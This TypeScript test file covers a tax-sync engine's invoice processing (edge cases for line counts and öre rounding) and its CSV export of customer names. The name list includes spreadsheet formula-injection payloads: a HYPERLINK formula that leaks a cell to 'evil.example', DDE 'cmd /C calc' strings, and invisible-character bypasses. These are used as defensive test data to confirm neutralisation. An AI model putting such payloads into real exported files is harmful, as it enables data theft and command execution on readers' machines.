import { readFileSync } from 'node:fs';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { exportMonth } from '../../electron/report/month-export.js';
import type { SandboxDocument, SandboxLine } from '../../electron/sandbox/visma-state.js';
import { type EngineWorld, startEngineWorld, tempDir } from '../helpers/engine.js';
import { parseCsv } from '../helpers/parse-csv.js';
import { text } from '../helpers/reasons.js';
import { expectClear, expectNothingLost, smallWorld } from './helpers.js';

/** An unreleased Swedish invoice with a good address, its lines replaced by `lines` (category STD, zone 01). */
function balanced(w: EngineWorld, lines: Partial<SandboxLine>[]): SandboxDocument {
  const d = w.sandboxes.visma.state.documents.find(
    (x) => x.kind === 'invoice' && /^1000[2-9]$/.test(x.customer.number) && x.location?.id !== 'OSLO',
  )!;
  return w.sandboxes.visma.editDocument('invoice', d.referenceNumber, (x) => {
    x.status = 'Balanced';
    x.hold = false;
    x.customerVatZoneId = '01';
    const template = x.lines[0]!;
    x.lines = lines.map((l, i) => ({
      ...template,
      lineNumber: i + 1,
      inventoryNumber: 'VERKTYG-100',
      quantity: 1,
      vatCode: { id: 'STD', description: 'STD' },
      ...l,
    }));
  });
}

const priced = (amount: number): Partial<SandboxLine> => ({
  unitPrice: amount,
  unitPriceInCurrency: amount,
  amount,
  amountInCurrency: amount,
});

describe('documents of odd sizes and amounts', () => {
  let w: EngineWorld;
  beforeEach(async () => {
    w = await smallWorld();
    await w.engine.run('user');
  });
  afterEach(() => w.close());

  it('an invoice with no lines needs attention, saying why', async () => {
    const d = balanced(w, []);
    const [result] = await w.engine.reprocess([d.referenceNumber], 'user');
    const row = (await w.store.ledger.get(`invoice:${d.referenceNumber}`))!;
    expect(row.state, text(result?.error)).toBe('needs-attention');
    expectClear(text(row.reasons[0]));
    expect(row.reasons.map(text).join(' ')).toMatch(/no lines|without lines|has no line/i);
    expect(w.sandboxes.avatax.find(`VN-INV-${d.referenceNumber}`)?.status).not.toBe('Committed');
    await expectNothingLost(w);
  });

  it('an invoice with 1,000 lines is calculated, written back and booked to the öre', async () => {
    // Amounts whose 25 % is a whole öre: Visma (rounding the total) and AvaTax (rounding each line) agree.
    const d = balanced(
      w,
      Array.from({ length: 1_000 }, (_, i) => priced(10 + (i % 97) * 0.04)),
    );
    const [result] = await w.engine.reprocess([d.referenceNumber], 'user');
    const row = (await w.store.ledger.get(`invoice:${d.referenceNumber}`))!;
    expect(row.state, result?.error ? text(result.error) : row.reasons.join('; ')).toBe('calculated');
    expect(row.lines).toHaveLength(1_000);
    expect(row.bookedTax).toBe(row.recordedTax);
    expect(w.sandboxes.avatax.find(`VN-INV-${d.referenceNumber}`)?.model.lines).toHaveLength(1_000);
    await expectNothingLost(w);
  }, 60_000);

  it('1,000 lines whose roundings add up beyond the tolerance need attention with both figures', async () => {
    const d = balanced(
      w,
      Array.from({ length: 1_000 }, () => priced(0.02)),
    );
    await w.engine.reprocess([d.referenceNumber], 'user');
    const row = (await w.store.ledger.get(`invoice:${d.referenceNumber}`))!;
    expect(row.state).toBe('needs-attention');
    expectClear(text(row.reasons[0]));
    expect(text(row.reasons[0])).toMatch(/booked SEK\s5\.00, AvaTax calculated SEK\s10\.00/);
    await expectNothingLost(w);
  }, 60_000);

  it('line amounts with many decimals are rounded once, to the öre, and booked exactly', async () => {
    const d = balanced(w, [priced(33.333333333), priced(0.004999999), priced(1234.5650000001)]);
    const [result] = await w.engine.reprocess([d.referenceNumber], 'user');
    const row = (await w.store.ledger.get(`invoice:${d.referenceNumber}`))!;
    if (row.state === 'needs-attention') expectClear(text(row.reasons[0]));
    else expect(row.state, text(result?.error)).toBe('calculated');
    for (const line of row.lines) expect(Number.isInteger(line.amount) && Number.isInteger(line.tax)).toBe(true);
    await expectNothingLost(w);
  });

  it('a line amount of 0.000000001 is no amount, never a crash', async () => {
    const d = balanced(w, [priced(100), priced(0.000000001)]);
    const [result] = await w.engine.reprocess([d.referenceNumber], 'user');
    const row = (await w.store.ledger.get(`invoice:${d.referenceNumber}`))!;
    expect(['calculated', 'needs-attention'], text(result?.error)).toContain(row.state);
    for (const reason of row.reasons) expectClear(text(reason));
    await expectNothingLost(w);
  });
});

/**
 * Customer names from anywhere in the world, and names that look like spreadsheet formulas, through the sync to
 * the month's documents CSV: text kept exactly, formulas neutralised with a leading apostrophe.
 */
const NAMES: { name: string; formula: boolean }[] = [
  { name: 'Grüße & Söhne 北京贸易 株式会社 🚀', formula: false },
  { name: 'شركة الخليج للتجارة', formula: false },
  { name: 'חברת הדגמה בע"מ', formula: false },
  { name: '\u202Eגבא=1+1', formula: false },
  { name: '\u202E=1+1 גבא', formula: true },
  { name: '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")', formula: true },
  { name: "+cmd|' /C calc'!A0", formula: true },
  { name: "@SUM(1+1)*cmd|' /C calc'!A0", formula: true },
  { name: '-2+3+cmd', formula: true },
  { name: ' =1+1', formula: true },
  { name: '\u200B=1+1', formula: true },
  { name: '＝HYPERLINK("http://evil.example")', formula: true },
  // Issue 14 #13: six invisible leading characters that once let a formula through the neutraliser.
  { name: '\u0085=1+1', formula: true },
  { name: '\u00AD=1+1', formula: true },
  { name: '\u034F=1+1', formula: true },
  { name: '\u115F=1+1', formula: true },
  { name: '\u3164=1+1', formula: true },
  { name: '\uFFA0=1+1', formula: true },
  { name: 'Line one\nLine two "quoted", and; more', formula: false },
];

describe('customer names through to the CSV export', () => {
  let w: EngineWorld;
  const cells = new Map<string, string>();
  const refs = new Map<string, string>();
  beforeAll(async () => {
    w = await startEngineWorld({ invoices: 30, creditNotes: 0 });
    const invoices = w.sandboxes.visma.state.documents.filter((d) => d.kind === 'invoice').slice(0, NAMES.length);
    NAMES.forEach(({ name }, i) => {
      const d = invoices[i]!;
      refs.set(name, d.referenceNumber);
      w.sandboxes.visma.editDocument('invoice', d.referenceNumber, (x) => {
        x.customer = { ...x.customer, name };
      });
    });
    await w.engine.run('user');
    const out = tempDir('taxsync-names-');
    const months = new Set(invoices.map((d) => d.documentDate.slice(0, 7)));
    for (const month of months) {
      const { documentsFile } = await exportMonth(w.store, month, out, ',', { runId: 'export', actor: 'user' });
      const rows = parseCsv(readFileSync(documentsFile, 'utf8'));
      const header = rows[0]!;
      for (const row of rows.slice(1))
        cells.set(row[header.indexOf('reference_number')]!, row[header.indexOf('customer_name')]!);
    }
  }, 60_000);
  afterAll(() => w.close());

  for (const { name, formula } of NAMES) {
    it(`${JSON.stringify(name)} ${formula ? 'is neutralised' : 'is kept exactly'}`, async () => {
      const ref = refs.get(name)!;
      const row = (await w.store.ledger.get(`invoice:${ref}`))!;
      expect(row.customerName).toBe(name);
      for (const reason of row.reasons) expectClear(text(reason));
      const cell = cells.get(ref);
      expect(cell).toBe(formula ? `'${name}` : name);
    });
  }
});
